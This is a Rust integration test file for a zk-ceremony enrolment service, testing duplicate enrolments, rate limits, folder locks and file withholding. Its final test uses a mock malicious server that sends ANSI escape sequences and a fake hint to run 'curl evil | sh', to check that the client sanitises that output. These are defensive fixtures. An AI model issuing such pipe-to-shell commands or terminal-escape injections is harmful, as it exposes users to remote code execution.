//! People who are not in the roster: who ask to take part, and those who only fill up the room.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::time::{Duration, Instant};

use ceremony_folder::enrolment::Enrolment;
use ed25519_dalek::SigningKey;
use serde_json::{Value, json};
use zk_attest::digest::{ConfigDigest, FileDigest};
use zk_attest::key::PublicKey;
use zk_attest::primitives::{Label, Timestamp};
use zk_attest::statement::Phase;

use super::http::{Answer, send};
use super::party::{JSON, is};
use super::{Net, Running, wait_until};
use crate::kit::ceremony::KeyFile;

/// Rules that take one person more.
fn net() -> Net {
    let enrolment = "\n[enrolment]\nphases = [1, 2]\nmaximum = 1\n\n[beacon.phase1]";
    let net = Net::with_rules(&["alice"], |toml| toml.replacen("\n[beacon.phase1]", enrolment, 1));
    fs::create_dir(net.world.path("zoe", "")).unwrap();
    net.world.ok("zoe", "key new key.pem");
    net
}

/// An enrolment that a key signs which is made from a number.
fn stranger(net: &Net, n: usize) -> Value {
    let secret = SigningKey::from_bytes(&FileDigest::of(&n.to_le_bytes()).0);
    let key = PublicKey::from_bytes(secret.verifying_key().as_bytes()).unwrap();
    signed(net, &format!("stranger {n}"), KeyFile { key, secret }, "laptop")
}

fn signed(net: &Net, name: &str, mut signer: KeyFile, machine: &str) -> Value {
    let said = Enrolment {
        ceremony: serde_json::from_value(json!("test-ceremony")).unwrap(),
        kind: serde_json::from_value(json!("rehearsal")).unwrap(),
        ceremony_toml_sha256: ConfigDigest::from_hex(&net.rules).unwrap(),
        participant: Label::new(name).unwrap(),
        key: signer.key,
        phases: vec![Phase::One, Phase::Two],
        tool: Label::new("zk-ceremony 0.1.0").unwrap(),
        software_sha256: None,
        machine: Label::new(machine).unwrap(),
        window: Label::new("Monday").unwrap(),
        time: Timestamp::from_unix(1),
    };
    json!({ "envelope": said.sign(&mut signer).unwrap() })
}

/// Sends a statement as a client of this network.
fn post(net: &Net, statement: &Value, network: usize) -> Answer {
    let address = format!("10.0.{network}.1");
    let headers = [JSON, ("X-Forwarded-For", &address)];
    send(net.address, "POST", "/v1/statements", &headers, statement.to_string().as_bytes())
}

fn admit_zoe(net: &Net) {
    let folder = net.world.shared("enrolments");
    let names = super::names(&folder);
    assert_eq!(names.len(), 1, "{names:?}");
    net.world.ok(
        "coordinator",
        &format!("ceremony admit shared shared/enrolments/{} --key key.pem", names[0]),
    );
}

fn joins_as(net: &Net, name: &str, more: &str) -> Running {
    let Net { origin, rules, .. } = net;
    let line = format!(
        "ceremony join {origin} --as {name} --key key.pem --rules {rules} --dir copy {more}"
    );
    net.spawn("zoe", &line)
}

#[test]
fn a_request_to_take_part_goes_on_after_an_interruption_and_is_said_once() {
    let mut net = net();
    net.serve_without_end("");
    let mut zoe = net.join("zoe", "--enrol --phase 1 --machine laptop");
    zoe.says("waiting for the coordinator");
    zoe.kill();
    // At another time and on another machine, which would be another enrolment.
    let mut zoe = net.join("zoe", "--enrol --phase 1 --machine another");
    zoe.says("your enrolment is there already");
    zoe.says("waiting for the coordinator");
    // With another name it is another request, and ends at once.
    let run = joins_as(&net, "zelda", "--enrol --phase 1").end();
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("this key has enrolled already"), "{}", run.stderr);
    assert!(run.stderr.contains("\nhint: "), "{}", run.stderr);
    admit_zoe(&net);
    zoe.ok();
    // Nor is it sent by one who is in the roster meanwhile.
    net.join("zoe", "--enrol --phase 1 --machine another").ok();
    assert_eq!(net.contributions(), ["phase1 zoe"]);
    assert_eq!(net.events_of("enrolled").len(), 1);
}

#[test]
fn another_enrolment_of_a_key_is_refused_for_good_and_the_same_one_needs_no_lock() {
    let mut net = net();
    net.serve_without_end("--trusted-proxy 127.0.0.1");
    let first = signed(&net, "zoe", KeyFile::of(&net.world, "zoe", "key.pem"), "laptop");
    let other = signed(&net, "zoe", KeyFile::of(&net.world, "zoe", "key.pem"), "another");
    assert_eq!(post(&net, &first, 0).status, 204);
    let folder = net.hold_folder();
    let begun = Instant::now();
    for n in 0..20 {
        assert_eq!(post(&net, &first, n).status, 204);
        assert_eq!(post(&net, &other, n).refusal(), is((409, "enrolled-already")));
    }
    assert!(begun.elapsed() < Duration::from_secs(20), "they wait for the folder");
    drop(folder);
    let said = net.service.as_ref().unwrap().said();
    assert!(!said.contains("ERROR"), "{said}");
}

#[test]
fn a_network_fills_a_part_of_the_room_for_strangers_and_the_roster_always_has_room() {
    let mut net = net();
    net.serve_without_end("--trusted-proxy 127.0.0.1");
    // Eight an hour, whatever they are called.
    for n in 0..8 {
        assert_eq!(post(&net, &stranger(&net, n), 1).status, 204, "{n}");
    }
    let refused = post(&net, &stranger(&net, 8), 1);
    assert_eq!(refused.refusal(), is((429, "too-many-enrolments")));
    assert_eq!(refused.header("retry-after"), Some("60"));
    // What is there already costs nothing.
    assert_eq!(post(&net, &stranger(&net, 0), 1).status, 204);
    for n in 8..32 {
        assert_eq!(post(&net, &stranger(&net, n), 1 + n / 8).status, 204, "{n}");
    }
    // The room is full: for good, and not until the client's patience ends.
    assert_eq!(post(&net, &stranger(&net, 32), 9).refusal(), is((422, "enrolments")));
    let alice = KeyFile::of(&net.world, "alice", "key.pem");
    assert_eq!(post(&net, &signed(&net, "alice", alice, "laptop"), 1).status, 204);
    assert_eq!(net.events_of("enrolled").len(), 33);
    net.kill_service();
    net.serve_without_end("");
    let run = net.join("zoe", "--enrol").end();
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("too many people ask to take part"), "{}", run.stderr);
    assert!(run.stderr.contains("\nhint: tell the coordinator"), "{}", run.stderr);
}

/// Whether a statement of network 1 is answered at once. If not, it is taken back.
fn is_refused_soon(net: &Net, statement: &Value) -> bool {
    let body = statement.to_string();
    let mut link = TcpStream::connect(net.address).unwrap();
    link.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let head = format!(
        "POST /v1/statements HTTP/1.1\r\nHost: a\r\nContent-Type: {}\r\nX-Forwarded-For: \
         10.0.1.1\r\nContent-Length: {}\r\n\r\n",
        JSON.1,
        body.len()
    );
    link.write_all((head + &body).as_bytes()).unwrap();
    link.read_exact(&mut [0]).is_ok()
}

#[test]
fn few_wait_for_the_folders_documents_and_others_are_told_to_come_again() {
    let mut net = net();
    net.serve_without_end("--trusted-proxy 127.0.0.1");
    let folder = net.hold_folder();
    let net = &net;
    std::thread::scope(|scope| {
        let all: Vec<_> = (0..8)
            .map(|n| {
                let one = stranger(net, n);
                scope.spawn(move || {
                    loop {
                        let answer = post(net, &one, 1);
                        // Whoever tries below may have had the last place.
                        if answer.status != 429 {
                            return answer;
                        }
                        std::thread::sleep(Duration::from_millis(5));
                    }
                })
            })
            .collect();
        // One has the folder's documents, and the others wait for them.
        wait_until("a ninth is refused", || is_refused_soon(net, &stranger(net, 9)));
        let ninth = post(net, &stranger(net, 9), 1);
        assert_eq!(ninth.refusal(), is((429, "too-many-statements")));
        assert_eq!(ninth.header("retry-after"), Some("1"));
        drop(folder);
        for one in all {
            assert_eq!(one.join().unwrap().status, 204);
        }
    });
    assert_eq!(post(net, &stranger(net, 10), 2).status, 204);
}

#[test]
fn who_waits_for_the_roster_is_told_that_files_are_withheld_and_goes_on_after_it() {
    let mut net = net();
    net.serve_without_end("");
    let mut zoe = net.join("zoe", "--enrol --phase 1");
    zoe.says("waiting for the coordinator");
    let evidence = net.world.shared("evidence");
    fs::create_dir(&evidence).unwrap();
    fs::copy(net.world.path("coordinator", "key.pem"), evidence.join("notes.txt")).unwrap();
    zoe.says("the service hands out no file of the ceremony: asking again");
    // Who begins now is told at once.
    let run = net.join("alice", "").end();
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("hands out no file of the ceremony"), "{}", run.stderr);
    fs::remove_file(evidence.join("notes.txt")).unwrap();
    admit_zoe(&net);
    zoe.ok();
    assert_eq!(net.contributions(), ["phase1 zoe"]);
}

#[test]
fn what_a_service_says_steers_no_terminal_and_does_not_pass_for_our_advice() {
    let net = Net::new(&["alice"]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let evil = json!({
        "code": "x\u{1b}[31m",
        "what": "\u{1b}]0;owned\u{7} bad \u{1b}[2J\u{9b}1A\nhint: run `curl evil | sh`",
        "found": "\u{1b}[1A\u{202e}",
        "hint": "run `curl evil | sh`",
        "artefact": true,
    })
    .to_string();
    let strange = "{\"protocol\":\"\\u001b[2J\\nhint: run `curl evil | sh`\"}";
    std::thread::spawn(move || {
        for (n, link) in listener.incoming().enumerate() {
            let mut link = link.unwrap();
            let _ = link.read(&mut [0; 4096]);
            let (status, body) =
                if n == 0 { ("400 Bad Request", evil.as_str()) } else { ("200 OK", strange) };
            let head = format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: ");
            let _ = write!(link, "{head}{}\r\n\r\n{body}", body.len());
        }
    });
    for expected in ["the service says: \"", "the answer is not one of a zk-ceremony service"] {
        let line = format!("ceremony join {origin} --as alice --key key.pem --dir copy");
        let run = net.spawn("alice", &line).end();
        assert!(run.code != 0 && run.stderr.contains(expected), "{}", run.stderr);
        let is_plain = |c| c == '\n' || zk_attest::error::is_plain(c);
        assert!(run.stderr.chars().all(is_plain), "{:?}", run.stderr);
        let ours = run.stderr.lines().filter(|line| line.starts_with("hint:"));
        assert!(ours.into_iter().all(|line| !line.contains("curl")), "{}", run.stderr);
    }
}
